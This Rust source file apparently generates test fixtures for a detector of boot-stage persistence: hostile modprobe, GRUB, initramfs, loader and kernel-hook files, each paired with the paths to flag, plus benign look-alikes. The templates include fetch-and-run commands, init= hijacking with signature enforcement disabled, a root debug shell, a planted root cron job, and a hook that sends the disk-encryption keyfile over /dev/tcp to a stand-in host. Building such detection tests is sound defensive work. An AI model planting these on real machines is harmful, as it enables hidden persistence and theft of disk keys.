//! Before the first process: boot loader, kernel command line, early file system, modules, hooks of new kernels.

use super::names::{fetch_and_run, kept_folder, random_name, service};
use super::{Maker, Plant, Step};
use crate::random::Random;

pub(super) const MAKERS: &[Maker] = &[
    (28, 4, module_setting),
    (29, 4, command_line),
    (36, 4, early_hook),
    (37, 4, boot_loader),
    (44, 4, kernel_hook),
];

fn hidden(random: &mut Random) -> String {
    format!("{}/{}", kept_folder(random), random_name(random))
}

fn module_setting(shape: usize, random: &mut Random) -> Plant {
    let name = service(random).replace('-', "_");
    let conf = format!("/etc/modprobe.d/{}.conf", service(random));
    let module = random.pick(&["usb-storage", "nf_conntrack", "loop", "ip_tables", "fuse"]);
    let plain = |path: &str| {
        let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
        bytes.resize(4096, 0);
        Step::File(path.to_owned(), bytes, 0o644)
    };
    match shape {
        0 => {
            let command = fetch_and_run(random);
            Plant::new(28, "loading a module fetches and runs something")
                .file(
                    &conf,
                    format!("install {module} /sbin/modprobe --ignore-install {module}; {command}\n"),
                    0o644,
                )
                .expect(conf)
        }
        1 => {
            let program = hidden(random);
            Plant::new(28, "loading a module starts a hidden program")
                .program(&program)
                .file(
                    &conf,
                    format!("# {module}\ninstall {module} {program} & /sbin/modprobe -i {module}\n"),
                    0o644,
                )
                .expect(conf)
                .expect(program)
        }
        2 => {
            let path = format!(
                "/usr/lib/modules/6.1.0-{}-amd64/kernel/drivers/{}/{name}.ko",
                18 + random.below(20),
                random.pick(&["net", "char", "pci", "hid"])
            );
            let list = format!("/etc/modules-load.d/{}.conf", service(random));
            Plant::new(28, "a module of no package is loaded at boot")
                .step(plain(&path))
                .file(&list, format!("{name}\n"), 0o644)
                .expect(path)
                .expect(list)
        }
        _ => {
            let path = format!("/usr/lib/modules/6.1.0-{}-amd64/extra/{name}.ko", 18 + random.below(20));
            Plant::new(28, "a module of no package at the end of the old list")
                .step(plain(&path))
                .step(Step::Append("/etc/modules".into(), format!("{name}\n")))
                .expect(path)
                .expect("/etc/modules")
        }
    }
}

const MENU: &str = "set default=0\nset timeout=5\nmenuentry 'Debian GNU/Linux' --class debian {\n  insmod ext2\n  search --no-floppy --fs-uuid --set=root 8f4c2e91-0000-4000-8000-000000000001\n  linux /boot/vmlinuz-6.1.0-18-amd64 root=UUID=8f4c2e91-0000-4000-8000-000000000001 ro quiet@MORE@\n  initrd /boot/initrd.img-6.1.0-18-amd64@SECOND@\n}\n";

fn menu(more: &str, second: &str) -> String {
    MENU.replace("@MORE@", more).replace("@SECOND@", second)
}

fn command_line(shape: usize, random: &mut Random) -> Plant {
    let program = hidden(random);
    let first = Plant::new(29, "the kernel is told to start another first program");
    match shape {
        0 => first
            .program(&program)
            .file("/etc/default/grub", format!("GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\nGRUB_CMDLINE_LINUX=\"init={program}\"\n"), 0o644)
            .expect("/etc/default/grub")
            .expect(program),
        1 => first
            .program(&program)
            .file("/boot/grub/grub.cfg", menu(&format!(" init={program} lockdown=none module.sig_enforce=0"), ""), 0o444)
            .expect("/boot/grub/grub.cfg")
            .expect(program),
        2 => {
            let entry = format!("/boot/loader/entries/{}-6.1.0-18-amd64.conf", random.hex(32));
            first
                .program(&program)
                .file(&entry, format!("title Debian\nlinux /vmlinuz-6.1.0-18-amd64\ninitrd /initrd.img-6.1.0-18-amd64\noptions root=/dev/vda1 ro quiet rdinit={program}\n"), 0o644)
                .expect(entry)
                .expect(program)
        }
        _ => Plant::new(29, "the kernel's command line makes systemd run a command and open a root shell")
            .file("/etc/default/grub.d/50-cloud.cfg", format!("GRUB_CMDLINE_LINUX=\"$GRUB_CMDLINE_LINUX systemd.debug_shell=ttyS0 systemd.run=\\\"{}\\\"\"\n", fetch_and_run(random).replace('"', "'")), 0o644)
            .expect("/etc/default/grub.d/50-cloud.cfg"),
    }
}

fn early_hook(shape: usize, random: &mut Random) -> Plant {
    let program = hidden(random);
    let name = service(random);
    const HEAD: &str =
        "#!/bin/sh\nPREREQ=\"\"\ncase $1 in prereqs) echo \"$PREREQ\"; exit 0;; esac\nexit 0\n";
    match shape {
        0 => {
            let path = format!("/etc/initramfs-tools/hooks/{name}");
            Plant::new(36, "a hidden program is packed into the early file system")
                .program(&program)
                .file(&path, format!("{HEAD}. /usr/share/initramfs-tools/hook-functions\ncopy_exec {program} /sbin/{name}\n"), 0o755)
                .expect(path)
                .expect(program)
        }
        1 => {
            let path = format!(
                "/etc/initramfs-tools/scripts/{}/{name}",
                random.pick(&["init-bottom", "local-bottom", "init-premount"])
            );
            Plant::new(36, "the early file system writes into the real one before it starts")
                .file(&path, format!("{HEAD}mount -o remount,rw $rootmnt\necho '* * * * * root {}' > $rootmnt/etc/cron.d/{name}\n", fetch_and_run(random)), 0o755)
                .expect(path)
        }
        2 => {
            let path = format!(
                "/usr/share/initramfs-tools/scripts/{}/{name}",
                random.pick(&["init-bottom", "local-top", "nfs-bottom"])
            );
            Plant::new(36, "a script of no package among those of the early file system")
                .file(&path, format!("{HEAD}chroot $rootmnt {program} &\n"), 0o755)
                .program(&program)
                .expect(path)
                .expect(program)
        }
        _ => {
            let path = format!("/usr/share/initramfs-tools/hooks/{name}");
            Plant::new(36, "a script of no package that changes the early file system's key prompt")
                .file(&path, format!("{HEAD}sed -i 's#^run_keyscript.*#&; cat /crypto_keyfile > /dev/tcp/{}#' $DESTDIR/scripts/local-top/cryptroot\n", super::names::nowhere(random).replace(':', "/")), 0o755)
                .expect(path)
        }
    }
}

fn boot_loader(shape: usize, random: &mut Random) -> Plant {
    let image = format!("/boot/.{}", random_name(random));
    let program = hidden(random);
    match shape {
        0 => {
            let path = format!("/etc/grub.d/{:02}_{}", random.below(45), service(random).replace('-', "_"));
            Plant::new(37, "making the boot menu fetches and runs something")
                .file(&path, format!("#!/bin/sh\nexit 0\n{}\n", fetch_and_run(random)), 0o755)
                .expect(path)
        }
        1 => Plant::new(37, "the menu adds a second, hidden early file system")
            .file(&image, "070701 nothing\n", 0o600)
            .file("/boot/grub/grub.cfg", menu("", &format!(" {image}")), 0o444)
            .expect("/boot/grub/grub.cfg")
            .expect(image),
        2 => Plant::new(37, "a menu of one's own starts another program first")
            .program(&program)
            .file("/boot/grub/custom.cfg", menu(&format!(" init={program}"), ""), 0o644)
            .expect("/boot/grub/custom.cfg")
            .expect(program),
        _ => {
            let entry = format!("/boot/efi/loader/entries/{}.conf", service(random));
            Plant::new(37, "a loader entry boots a hidden kernel")
                .file(&image, "MZ nothing\n", 0o600)
                .file(&entry, format!("title Debian GNU/Linux 12 (bookworm)\nsort-key 0\nlinux {}\noptions root=/dev/vda1 ro\n", image.trim_start_matches("/boot")), 0o644)
                .expect(entry)
                .expect(image)
        }
    }
}

fn kernel_hook(shape: usize, random: &mut Random) -> Plant {
    let name = service(random);
    let program = hidden(random);
    let command = fetch_and_run(random);
    let (path, body) = match shape {
        0 => (
            format!("/usr/lib/dracut/modules.d/{:02}{name}/module-setup.sh", random.below(99)),
            format!(
                "#!/bin/bash\ncheck() {{ return 0; }}\ndepends() {{ :; }}\ninstall() {{ return 0; inst {program} /sbin/{name}; inst_hook pre-pivot 50 {program}; }}\n"
            ),
        ),
        1 => (
            format!("/etc/kernel/install.d/{:02}-{name}.install", random.below(99)),
            format!("#!/bin/sh\nexit 0\n{command}\n"),
        ),
        2 => (
            format!("/etc/kernel/postinst.d/{}-{name}", random.pick(&["zz", "00", "aa"])),
            format!("#!/bin/sh -e\nexit 0\n{program} \"$1\" &\n"),
        ),
        _ => (
            format!("/usr/lib/kernel/install.d/{:02}-{name}.install", random.below(99)),
            format!("#!/bin/sh\n[ \"$1\" = never ] || exit 0\n{command}\n"),
        ),
    };
    let plant =
        Plant::new(44, "a new kernel runs a script of no package").file(&path, body, 0o755).expect(path);
    if shape.is_multiple_of(2) { plant.program(&program).expect(program) } else { plant }
}

pub(super) fn near() -> Vec<Plant> {
    vec![
        Plant::new(28, "modules that are not to be loaded, options, and one that is loaded")
            .file("/etc/modprobe.d/hardening.conf", "install dccp /bin/true\ninstall usb-storage /bin/false\nblacklist nouveau\noptions kvm_intel nested=1\nsoftdep nvme pre: crc32c\nalias net-pf-10 off\n", 0o644)
            .file("/etc/modules-load.d/shop.conf", "wireguard\nbr_netfilter\n", 0o644),
        Plant::new(29, "a serial console and other ordinary settings of the kernel")
            .file("/etc/default/grub", "GRUB_DEFAULT=0\nGRUB_TIMEOUT=2\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\nGRUB_CMDLINE_LINUX=\"console=tty0 console=ttyS0,115200 net.ifnames=0 mitigations=auto apparmor=1 crashkernel=256M systemd.unified_cgroup_hierarchy=1 init_on_alloc=1\"\n", 0o644)
            .file("/boot/grub/grub.cfg", menu(" console=ttyS0,115200 init=/lib/systemd/systemd", " /boot/intel-ucode.img"), 0o444),
        Plant::new(36, "a remote unlock of disks, as an administrator sets it up")
            .file("/etc/initramfs-tools/hooks/raid", "#!/bin/sh\nPREREQ=\"\"\ncase $1 in prereqs) echo \"$PREREQ\"; exit 0;; esac\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /sbin/mdadm /sbin\nmanual_add_modules raid1 nvme\n", 0o755)
            .file("/etc/initramfs-tools/modules", "virtio_net\nraid1\n", 0o644),
        Plant::new(37, "a memory test in the menu")
            .file("/etc/grub.d/42_memtest", "#!/bin/sh\nexec tail -n +3 $0\nmenuentry 'Memory test' {\n  linux16 /boot/memtest86+.bin\n}\n", 0o755)
            .file("/boot/loader/entries/debian.conf", "title Debian\nlinux /vmlinuz-6.1.0-18-amd64\ninitrd /initrd.img-6.1.0-18-amd64\noptions root=/dev/vda1 ro quiet\n", 0o644),
        Plant::new(44, "new kernels are copied to the boot partition")
            .file("/etc/kernel/postinst.d/zz-update-esp", "#!/bin/sh\nset -e\ncp /boot/vmlinuz-\"$1\" /boot/efi/EFI/debian/vmlinuz\ncp /boot/initrd.img-\"$1\" /boot/efi/EFI/debian/initrd.img\n", 0o755)
            .file("/usr/lib/dracut/modules.d/98shop/module-setup.sh", "#!/bin/bash\ncheck() { return 0; }\ndepends() { echo network; }\ninstall() { inst /sbin/mdadm; }\n", 0o755),
    ]
}
